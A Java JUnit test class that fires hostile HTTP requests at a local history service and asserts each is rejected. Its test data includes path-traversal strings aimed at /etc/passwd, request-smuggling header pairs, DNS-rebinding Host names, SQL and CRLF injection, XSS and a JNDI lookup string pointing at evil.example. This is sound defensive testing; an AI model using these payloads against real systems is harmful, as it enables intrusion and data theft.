package com.voltageems.hissrv.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.voltageems.hissrv.config.ApiAccess;
import com.voltageems.hissrv.config.ApiConfig;
import com.voltageems.hissrv.http.ApiFixture.Answer;
import com.voltageems.hissrv.ledger.SourceWindow;
import com.voltageems.hissrv.model.Level;
import com.voltageems.hissrv.model.Point;
import com.voltageems.hissrv.store.HistoryStore;
import com.voltageems.hissrv.store.sqlite.SqliteStore;
import com.voltageems.hissrv.testkit.Await;
import com.voltageems.hissrv.transform.Origin;
import com.voltageems.hissrv.transform.Transformed;
import java.io.IOException;
import java.lang.reflect.Proxy;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What is tried against every service that listens. Tokens, foreign pages and names that point
 * here: {@link AccessTest}, {@link LoopbackOnlyTest}; slowness: {@link SlowClientsTest}.
 */
class AttackListTest {
  @TempDir Path folder;
  private ApiFixture api;

  @BeforeEach
  void open() {
    api = new ApiFixture(folder);
    api.store("telemetry", Map.of("channel", "1001"), 1, 1.0);
  }

  @AfterEach
  void close() {
    api.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/ui/../hissrv.yml",
        "/ui/..%2fhissrv.yml",
        "/ui/%2e%2e/hissrv.yml",
        "/ui/%2e%2e%2fhissrv.yml",
        "/ui/..%5chissrv.yml",
        "/ui/..%c0%afhissrv.yml",
        "/ui/lang/%2e%2e%2f%2e%2e%2fopenapi.yaml",
        "/ui//etc/passwd",
        "/ui/;/../../etc/passwd",
        "/ui/main.js%00.css",
        "/quarantine/../../etc/passwd",
        "/quarantine/%2e%2e%2fconfig",
        "/quarantine/1%2f..%2f..%2fetc",
        "/mappings/..%2fconfig",
        "//etc/passwd",
        "/../../etc/passwd",
      })
  void noPathLeadsToAFile(String path) {
    Answer answer =
        api.raw("GET " + path + " HTTP/1.1", "Host: localhost", "Connection: close", "", "");

    assertThat(answer.status()).isBetween(400, 499);
    assertThat(answer.body()).doesNotContain("root:").doesNotContain("canary");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/validate", "/config/validate", "/sync"})
  void aCompressedBodyIsNotUnpacked(String path) {
    Answer answer =
        api.raw(
            "POST " + path + " HTTP/1.1",
            "Host: localhost",
            "Content-Encoding: gzip",
            "Content-Length: 4",
            "Connection: close",
            "",
            "abcd");

    assertThat(answer.status()).isEqualTo(415);
    assertThat(answer.problem()).isEqualTo("encoded-body");
  }

  @Test
  void twoLengthsAreNoRequest() {
    Answer answer =
        api.raw(
            "POST /sync HTTP/1.1",
            "Host: localhost",
            "Content-Length: 0",
            "Content-Length: 44",
            "",
            "GET /config HTTP/1.1",
            "Host: localhost",
            "",
            "");

    assertThat(answer.status()).isEqualTo(400);
    assertThat(answer.body()).doesNotContain("HTTP/1.1");
  }

  @ParameterizedTest
  @CsvSource({
    "Transfer-Encoding: chunked,Content-Length: 4",
    "Transfer-Encoding: gzip,X: y",
    "'Transfer-Encoding: chunked, identity',X: y",
    "Transfer-Encoding : chunked,X: y",
    "Content-Length: +4,X: y",
    "Content-Length: 4x,X: y",
    "X: y,' folded: z'",
  })
  void whatTwoReadersWouldReadTwoWaysIsNoRequest(String one, String other) {
    Answer answer = api.raw("POST /sync HTTP/1.1", "Host: localhost", one, other, "", "0", "", "");

    assertThat(answer.status()).isBetween(400, 501).isNotEqualTo(500);
    assertThat(answer.body()).doesNotContain("HTTP/1.1");
  }

  /** DNS rebinding: the page of a name that points here reads with its visitor's browser. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "evil.example",
        "evil.example:8082",
        "EVIL.example.",
        "localhost.evil.example",
        "127.0.0.1.evil.example",
        "local.evil.example",
        "192.168.1.5.evil.example:80",
        "1.2.3.4.5",
        "evil.example:99999999",
      })
  void aNameThatSomebodyMadePointHereReadsNothing(String host) {
    for (String path :
        List.of(
            "/query?measurement=telemetry", "/status", "/config", "/live", "/hisApi/channels")) {
      Answer answer = read(path, host);

      assertThat(answer.status()).as(path).isIn(400, 403);
      assertThat(answer.body()).doesNotContain("1001").doesNotContain("canary");
    }
    assertThat(read("/health", host).status()).isIn(200, 400);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "localhost",
        "127.0.0.1:8082",
        "192.168.1.5",
        "[::1]:8082",
        "[fe80::1]",
        "hissrv",
        "hissrv:8082",
        "ems-01.local",
        "hissrv.plant.internal",
        "hissrv.monitoring.svc.cluster.local",
        "hissrv.monitoring.svc",
        "box.lan",
        "HISSRV.Home.Arpa.",
      })
  void aNameThatNobodyCanHaveRegisteredReads(String host) {
    assertThat(read("/query?measurement=telemetry", host).status()).isEqualTo(200);
  }

  @Test
  void aNameOfTheConfigurationReadsAndSoDoesAnyWhereAllAreAllowed() {
    for (String allowed : List.of("history.example", "*")) {
      api.server.reconfigure(
          new ApiConfig(
              "127.0.0.1",
              0,
              Optional.empty(),
              new ApiAccess(List.of(), false, List.of(), List.of(allowed))));
      assertThat(read("/status", "History.example:443").status()).as(allowed).isEqualTo(200);
      assertThat(read("/status", "evil.example").status())
          .as(allowed)
          .isEqualTo(allowed.equals("*") ? 200 : 403);
    }
    assertThat(read("/status", "evil.example").problem()).isNotEqualTo("unknown-host");
  }

  private Answer read(String path, String host) {
    return api.raw("GET " + path + " HTTP/1.1", "Host: " + host, "Connection: close", "", "");
  }

  @Test
  void oneAddressCanNotTakeAllConnectionsFromOthers() throws Exception {
    var sockets = new ArrayList<Socket>();
    try {
      for (int i = 0; i <= 512; i++) {
        sockets.add(new Socket(InetAddress.ofLiteral("127.0.0.1"), api.port));
      }
      // Which of them is one too many the server's threads decide.
      Await.until(
          "one is closed",
          Duration.ofSeconds(8),
          () -> sockets.stream().anyMatch(AttackListTest::isClosed));
      try (var other =
          new Socket(
              InetAddress.ofLiteral("127.0.0.1"),
              api.port,
              InetAddress.ofLiteral("127.0.0.2"),
              0)) {
        other.setSoTimeout(9_000);
        other
            .getOutputStream()
            .write(
                "GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
                    .getBytes(StandardCharsets.US_ASCII));
        assertThat(new String(other.getInputStream().readAllBytes(), StandardCharsets.UTF_8))
            .startsWith("HTTP/1.1 200");
      }
    } finally {
      for (Socket socket : sockets) {
        socket.close();
      }
    }
  }

  private static boolean isClosed(Socket socket) {
    try {
      socket.setSoTimeout(1);
      return socket.getInputStream().read() < 0;
    } catch (SocketTimeoutException e) {
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  @Test
  void manyVerificationsDoNotPileUp() throws Exception {
    var begun = new CountDownLatch(1);
    var goOn = new CountDownLatch(1);
    api.close();
    var store = new SqliteStore(folder.resolve("slow"), InstantSource.fixed(ApiFixture.NOW));
    api = new ApiFixture(folder, waiting(store, begun, goOn));
    Point known = api.point("telemetry", Map.of("channel", "1001"), 0, 1.0);
    api.catalog.record(
        List.of(
            new Transformed.Mapped(
                List.of(known),
                Map.of(known.series(), List.of(new Origin("voltage", "comsrv:1001:m", "1", null))),
                List.of(),
                List.of())));
    api.ledger.flush();
    api.ledger.delivered(
        List.of(
            new SourceWindow(
                "comsrv:1001:m",
                Level.parse("1m").orElseThrow(),
                ApiFixture.NOW.getEpochSecond())));
    Thread first = Thread.startVirtualThread(() -> api.send("POST", "/verify"));
    assertThat(begun.await(30, TimeUnit.SECONDS)).isTrue();
    try {
      Answer answer = api.send("POST", "/verify");

      assertThat(answer.status()).isEqualTo(429);
      assertThat(answer.problem()).isEqualTo("busy");
      assertThat(answer.header("retry-after")).isNotEmpty();
    } finally {
      goOn.countDown();
      first.join();
    }
    assertThat(api.send("POST", "/verify").status()).isEqualTo(200);
  }

  private static HistoryStore waiting(
      HistoryStore store, CountDownLatch begun, CountDownLatch goOn) {
    return (HistoryStore)
        Proxy.newProxyInstance(
            HistoryStore.class.getClassLoader(),
            new Class<?>[] {HistoryStore.class},
            (_, method, arguments) -> {
              if (method.getName().equals("query")) {
                begun.countDown();
                assertThat(goOn.await(30, TimeUnit.SECONDS)).isTrue();
              }
              return method.invoke(store, arguments);
            });
  }

  @Test
  void twoHostsAreNoRequest() {
    Answer answer =
        api.raw(
            "GET /health HTTP/1.1",
            "Host: localhost",
            "Host: evil.example",
            "Connection: close",
            "",
            "");

    assertThat(answer.status()).isEqualTo(400);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/", "/docs", "/query?measurement=telemetry", "/nowhere", "/docs/"})
  void aPrefixThatSomebodyClaimsIsNowhereInTheAnswer(String path) {
    Answer answer =
        api.send(
            "GET",
            path,
            "Accept",
            "text/html",
            "X-Forwarded-Prefix",
            "/\"><script>alert(1)</script>",
            "X-Forwarded-Host",
            "evil.example",
            "X-Original-URL",
            "/evil-path",
            "X-Rewrite-URL",
            "/evil-path");

    assertThat(answer.body()).doesNotContain("alert(1)").doesNotContain("evil");
    assertThat(answer.headers().toString()).doesNotContain("alert(1)").doesNotContain("evil");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' OR 1=1 --",
        "\"; DROP MEASUREMENT telemetry; --",
        "x\r\nSet-Cookie: a=b",
        "${jndi:ldap://evil.example}",
        "~(a+)+$",
        "tag,evil=1",
        "\u0000",
        "<script>alert(1)</script>",
      })
  void noParameterIsMoreThanText(String evil) {
    String text = URLEncoder.encode(evil, StandardCharsets.UTF_8);
    for (String path : new String[] {"query", "latest", "statistics"}) {
      for (String name :
          new String[] {
            "redis_key",
            "point_id",
            "interval",
            "start_time",
            "end_time",
            "page",
            "page_size",
            "aggregation"
          }) {
        String others =
            (name.equals("redis_key") ? "" : "&redis_key=comsrv:1001:m")
                + (name.equals("point_id") ? "" : "&point_id=1");
        Answer answer = api.get("/hisApi/data/" + path + "?" + name + "=" + text + others);

        assertThat(answer.status()).as(path + " " + name).isIn(400, 404);
        assertThat(answer.header("content-type")).startsWith("application/problem+json");
        assertThat(answer.headers()).doesNotContainKey("set-cookie");
      }
    }
    assertThat(api.get("/query?measurement=telemetry").status()).isEqualTo(200);
  }
}
